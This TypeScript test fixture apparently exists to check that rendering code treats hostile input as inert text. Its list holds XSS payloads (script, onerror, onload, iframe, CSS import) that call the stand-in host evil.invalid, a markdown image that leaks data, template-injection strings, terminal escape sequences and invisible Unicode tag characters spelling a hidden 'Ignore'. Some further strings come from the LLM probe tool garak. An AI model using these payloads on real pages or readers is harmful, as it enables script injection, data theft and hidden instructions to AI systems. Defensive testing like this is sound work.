import { readFileSync } from "node:fs";
import { join } from "node:path";

/** Texts that would do something if they were anything but text. Every address in them is one that must never be asked. */
export const hostileHost = "evil.invalid";

export const hostileTexts: readonly string[] = [
  `<script>fetch("http://${hostileHost}/script")</script>`,
  `<img src=x onerror="document.title='owned';fetch('http://${hostileHost}/onerror')">`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='owned'"><image href="http://${hostileHost}/svg.png"/></svg>`,
  `![secret](http://${hostileHost}/markdown.png?data=secret)`,
  `[click](javascript:document.title='owned')`,
  `<iframe src="http://${hostileHost}/frame"></iframe><link rel=stylesheet href="http://${hostileHost}/style.css">`,
  `<style>body{display:none}@import url(http://${hostileHost}/import.css);</style>`,
  `\u001b[31mred\u001b[0m \u001b]8;;http://${hostileHost}/osc\u0007link\u001b]8;;\u0007`,
  "user\u202egnp.exe\u202c and \u2066isolated\u2069 and zero\u200bwidth",
  "hidden \u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} tags",
  `{{constructor.constructor('document.title="owned"')()}} \${document.title='owned'}`,
  "العربية ثم English ثم עברית",
];

interface InjectionText {
  readonly id: string;
  readonly kind: string;
  readonly text: string;
  /** Repository that it is from, and its licence: "ours" is written for this purpose. */
  readonly source: string;
  readonly licence: string;
}

/**
 * Strings that break out of pages, terminals and the eye: markup, terminal, bidi, invisible, confusable, control. 31 of 60 are
 * from NVIDIA/garak (Apache-2.0, Copyright (c) NVIDIA CORPORATION & AFFILIATES), templates filled in.
 */
export function injectionTexts(): readonly InjectionText[] {
  const lines = readFileSync(join(import.meta.dirname, "injection-texts.jsonl"), "utf8")
    .trim()
    .split("\n");
  return lines.map((line) => JSON.parse(line) as InjectionText);
}
